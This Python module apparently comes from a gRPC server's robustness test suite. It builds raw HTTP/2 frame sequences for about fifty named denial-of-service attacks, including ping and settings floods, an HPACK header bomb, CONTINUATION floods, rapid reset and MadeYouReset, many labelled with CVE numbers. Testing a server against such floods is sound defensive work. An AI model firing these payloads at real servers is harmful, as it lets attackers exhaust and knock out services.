"""Attacks on an HTTP/2 server by one connection, as bytes that are built once.

Attacks of known CVE classes name them. `http2_attacker` sends the bytes.
"""

import random
from collections.abc import Callable
from typing import NamedTuple

from rockoon_rpc.session import ErrorCode
from support import http2_frames as frames
from support.http2_frames import block, framed, literal
from support.raw_http2 import CALL

PATH = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
UNMET = "/test.Nothing/Here"
STREAMS = 20_000
CHUNK_BYTES = 256 << 10
# Maximum of concurrent long polls; then the oldest is cancelled.
POLLS = 64
CANCEL = ErrorCode.CANCEL


class Poll(NamedTuple):
    """A call of the attacked server that waits until it is cancelled.

    Args:
        path: path of its method.
        message: the request.
        headers: further headers, encoded.
    """

    path: str = WATCH
    message: bytes = b""
    headers: bytes = b""

    def on(self, stream_id: int) -> bytes:
        return head(stream_id, self.path, self.headers) + request(stream_id, self.message)


class Attack(NamedTuple):
    """Bytes that one connection sends.

    Args:
        once: after the preface and SETTINGS.
        polls: as `once`, built from a call that waits.
        again: repeated until the server ends the connection. None: after `once` the attacker ends
            its side, and opens a new connection when the server has ended its own side.
        reads: whether the attacker reads replies.
        pause_seconds: pause before each repetition of `again`.
        cve: class of attacks to which it belongs.
    """

    once: Callable[[], bytes] = bytes
    again: Callable[[], bytes] | None = None
    reads: bool = True
    pause_seconds: float = 0.0
    cve: str = ""
    polls: Callable[[Poll], bytes] | None = None

    def first(self, poll: Poll) -> bytes:
        """Return all bytes that are sent once."""
        return self.once() if self.polls is None else self.polls(poll)


def head(stream_id: int, path: str = PATH, more: bytes = b"", *, ends: bool = False) -> bytes:
    """Return the headers of a call."""
    headers = [(name, path if name == ":path" else value) for name, value in CALL]
    flags = frames.END_HEADERS | (frames.END_STREAM if ends else 0)
    return frames.frame(frames.HEADERS, flags, stream_id, block(headers) + more)


def request(stream_id: int, message: bytes = b"") -> bytes:
    """Return the request of a call, which ends its stream."""
    return frames.frame(frames.DATA, frames.END_STREAM, stream_id, framed(message))


def call(stream_id: int, path: str = PATH, more: bytes = b"") -> bytes:
    return head(stream_id, path, more) + request(stream_id)


def each_stream(piece: Callable[[int], bytes], count: int = 0) -> bytes:
    """Return a piece for each of several streams; `count` 0: for STREAMS streams."""
    return b"".join(piece(2 * number + 1) for number in range(count or STREAMS))


def streams(piece: Callable[[int], bytes], count: int = 0, cve: str = "") -> Attack:
    """Return an attack that sends a piece on each stream, on one connection after another."""
    return Attack(lambda: each_stream(piece, count), cve=cve)


def repeated(frame: bytes) -> bytes:
    return frame * max(CHUNK_BYTES // len(frame), 1)


def flood(
    frame: bytes, once: Callable[[], bytes] = bytes, *, reads: bool = True, cve: str = ""
) -> Attack:
    return Attack(once, lambda: repeated(frame), reads, cve=cve)


def on_open_stream(frame: bytes, cve: str = "") -> Attack:
    """Return a flood on stream 1, whose request never arrives."""
    return flood(frame, lambda: head(1), cve=cve)


def settings_entries() -> bytes:
    entries = (frames.SETTING.pack(frames.INITIAL_WINDOW_SIZE, size) for size in range(2_700))
    return frames.frame(frames.SETTINGS, 0, 0, b"".join(entries))


def priority_tree() -> bytes:
    """Return streams whose dependencies change with each frame."""
    chance = random.Random(7)
    return b"".join(
        frames.priority(2 * chance.randrange(500) + 1, 2 * chance.randrange(500, 1_000) + 1)
        for _ in range(CHUNK_BYTES // 14)
    )


def bomb() -> bytes:
    """Return blocks of 400 bytes that name an entry of 4,000 bytes as often as a list may be
    long."""
    kept = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4_000
    return head(1, more=kept) + each_stream(
        lambda stream_id: head(stream_id + 2, more=b"\xbe" * 15 + literal("n", str(stream_id)))
    )


def coded(stream_id: int) -> bytes:
    """Return a header whose value is Huffman-coded and nearly as long as a list may be."""
    # 16,000 times "0", a code of five bits.
    return head(stream_id, more=b"\0\x01x\xff\x91\x4d" + bytes(10_000))


def continued(pieces: int, length: int) -> Callable[[int], bytes]:
    """Return calls whose headers continue in empty frames, and have `pieces * length` more
    bytes."""
    headers = block(CALL) + literal("x", "y" * (pieces * length))

    def piece(stream_id: int) -> bytes:
        parts = [frames.frame(frames.HEADERS, 0, stream_id, headers)]
        parts += [frames.frame(frames.CONTINUATION, 0, stream_id)] * pieces
        parts.append(frames.frame(frames.CONTINUATION, frames.END_HEADERS, stream_id))
        return b"".join(parts)

    return piece


def begun_headers() -> bytes:
    """Return headers whose block does not end."""
    return frames.frame(frames.HEADERS, 0, 1, block(CALL))


def continuation(payload: bytes) -> bytes:
    return frames.frame(frames.CONTINUATION, 0, 1, payload)


def table_sizes(count: int) -> Callable[[int], bytes]:
    headers = b"\x20\x3f\xe1\x1f" * count + block(CALL)
    return lambda stream_id: frames.frame(frames.HEADERS, frames.END_HEADERS, stream_id, headers)


def changing_tables() -> bytes:
    sizes = (0, 4_096, 65_536)
    return b"".join(frames.settings({frames.HEADER_TABLE_SIZE: size}) for size in sizes)


def then(frame: Callable[[int], bytes]) -> Callable[[int], bytes]:
    """Return a whole call, followed by a frame on its stream."""
    return lambda stream_id: call(stream_id) + frame(stream_id)


def cancelled_polls(poll: Poll) -> bytes:
    """Return long polls: `POLLS` wait at a time, and each new one cancels the oldest."""

    def piece(stream_id: int) -> bytes:
        oldest = stream_id - 2 * POLLS
        return poll.on(stream_id) + (frames.rst_stream(oldest, CANCEL) if oldest > 0 else b"")

    return each_stream(piece)


def waiting_polls(poll: Poll) -> bytes:
    return each_stream(poll.on)


def claimed(stream_id: int) -> bytes:
    """Return the beginning of a message of 60 MiB."""
    begun = frames.PREFIX.pack(0, 60 << 20) + bytes(100)
    return head(stream_id) + frames.frame(frames.DATA, 0, stream_id, begun)


def long_request(stream_id: int) -> bytes:
    """Return a valid request of 60 KiB in frames of 15 KiB: one field that no service knows."""
    size = 60 << 10
    unknown = b"\x7a" + bytes((size & 0x7F | 0x80, size >> 7 & 0x7F | 0x80, size >> 14))
    message = framed(unknown + bytes(size))
    pieces = [message[at : at + (15 << 10)] for at in range(0, len(message), 15 << 10)]
    parts = [frames.frame(frames.DATA, 0, stream_id, each) for each in pieces[:-1]]
    last = frames.frame(frames.DATA, frames.END_STREAM, stream_id, pieces[-1])
    return head(stream_id) + b"".join(parts) + last


def slow_requests() -> bytes:
    """Return the beginnings of calls with requests of 1,000 bytes."""
    begun = frames.PREFIX.pack(0, 1_000)
    return each_stream(
        lambda stream_id: head(stream_id) + frames.frame(frames.DATA, 0, stream_id, begun), 500
    )


def slow_request_bytes() -> bytes:
    return each_stream(lambda stream_id: frames.frame(frames.DATA, 0, stream_id, b"\0"), 500)


def unread() -> bytes:
    """Return calls whose replies fit into the connection's window, but not into the socket."""
    return frames.window_update(0, 1 << 30) + each_stream(call, 3 * STREAMS)


def without_window(piece: Callable[[int], bytes]) -> Callable[[], bytes]:
    no_window = frames.settings({frames.INITIAL_WINDOW_SIZE: 0})
    return lambda: no_window + each_stream(piece)


ATTACKS: dict[str, Attack] = {
    # Frames without effect.
    "ping": flood(frames.frame(frames.PING, 0, 0, bytes(8)), cve="2019-9512"),
    "ping-unread": flood(frames.frame(frames.PING, 0, 0, bytes(8)), reads=False, cve="2019-9512"),
    "ping-answers": flood(frames.frame(frames.PING, frames.ACK, 0, bytes(8))),
    "settings": flood(frames.settings({frames.INITIAL_WINDOW_SIZE: 1 << 16}), cve="2019-9515"),
    "settings-answers": flood(frames.frame(frames.SETTINGS, frames.ACK, 0)),
    "settings-entries": Attack(lambda: each_stream(head), settings_entries, cve="2019-9515"),
    "settings-table-sizes": flood(changing_tables()),
    "priority": flood(frames.priority(1, 0), cve="2019-9513"),
    "priority-tree": Attack(again=priority_tree, cve="2019-9513"),
    "window-update": flood(frames.window_update(0, 1)),
    "stream-window-update": on_open_stream(frames.window_update(1, 1)),
    "empty-data": on_open_stream(frames.frame(frames.DATA, 0, 1), cve="2019-9518"),
    "one-byte-data": flood(frames.frame(frames.DATA, 0, 1, b"\0"), lambda: head(1, WATCH)),
    "padding": on_open_stream(frames.frame(frames.DATA, frames.PADDED, 1, b"\x03\0\0\0")),
    "unknown-frames": flood(frames.frame(0xEE, 0, 0)),
    "long-unknown-frames": flood(frames.frame(0xEE, 0, 0, bytes(16_000))),
    "goaway": flood(frames.goaway(0, ErrorCode.NO_ERROR)),
    "data-behind-end": flood(frames.frame(frames.DATA, 0, 1, b"x"), lambda: call(1)),
    "resets-behind-end": flood(frames.rst_stream(1, CANCEL), lambda: call(1)),
    # Headers.
    "header-bomb": Attack(bomb, cve="2016-6581"),
    "many-headers": streams(lambda number: head(number, more=literal("x", "y") * 300), 2_000),
    "empty-headers": streams(
        lambda number: head(number, more=b"\0\0\0" * 100 + b"\0\x80\x80" * 100),
        2_000,
        cve="2019-9516",
    ),
    "odd-headers": streams(lambda number: call(number, more=literal("x", "a\r\nb: c\0"))),
    "coded-headers": streams(coded, 200),
    "table-sizes": streams(table_sizes(2_000), 100),
    "continuation-full": streams(continued(1, 12_000), 200),
    "continuation-empty": streams(continued(60, 1), 2_000, cve="2019-9518"),
    "continuation-endless": Attack(
        begun_headers, lambda: repeated(continuation(literal("x", "y" * 10_000))), cve="2024-27316"
    ),
    "continuation-nothing": Attack(
        begun_headers, lambda: repeated(continuation(b"")), cve="2019-9518"
    ),
    "slow-headers": Attack(begun_headers, lambda: continuation(b"\0"), pause_seconds=0.05),
    "no-head": streams(
        lambda number: frames.frame(frames.HEADERS, frames.END_HEADERS, number, b"\x83"),
        cve="2019-9514",
    ),
    # Calls without a whole request.
    "no-request": streams(head),
    "no-request-ended": streams(lambda number: head(number, ends=True)),
    "part-of-request": streams(
        lambda number: head(number) + frames.frame(frames.DATA, 0, number, b"\0\0")
    ),
    "slow-requests": Attack(slow_requests, slow_request_bytes, pause_seconds=0.1),
    "message-claims": streams(claimed, 5_000),
    # Resets by either side.
    "rapid-reset": streams(
        then(lambda number: frames.rst_stream(number, CANCEL)), cve="2023-44487"
    ),
    "reset-without-request": streams(
        lambda number: head(number) + frames.rst_stream(number, CANCEL), cve="2023-44487"
    ),
    "made-you-reset": streams(
        then(lambda number: frames.window_update(number, 0)), cve="2025-8671"
    ),
    "made-you-reset-window": streams(
        then(lambda number: frames.window_update(number, frames.WINDOW_MAX)), cve="2025-8671"
    ),
    "made-you-reset-data": streams(
        then(lambda number: frames.frame(frames.DATA, 0, number, b"x")), cve="2025-8671"
    ),
    "made-you-reset-priority": streams(
        then(lambda number: frames.priority(number, number)), cve="2025-8671"
    ),
    "cancelled-polls": Attack(polls=cancelled_polls, cve="2023-44487"),
    # Calls.
    "unknown-method": streams(lambda number: call(number, UNMET)),
    "streams": streams(lambda number: call(number, WATCH)),
    "polls": Attack(polls=waiting_polls),
    "calls": streams(call),
    "deadlines": streams(lambda number: call(number, WATCH, literal("grpc-timeout", "1m"))),
    "long-requests": streams(long_request, 200),
    # Replies.
    "calls-unread": Attack(unread, reads=False, cve="2019-9517"),
    "calls-without-window": Attack(without_window(call)),
    "dribble": Attack(
        without_window(lambda number: call(number) + frames.window_update(number, 1) * 8),
        cve="2019-9511",
    ),
    # No HTTP/2.
    "noise": Attack(again=lambda: random.Random(7).randbytes(CHUNK_BYTES)),
}
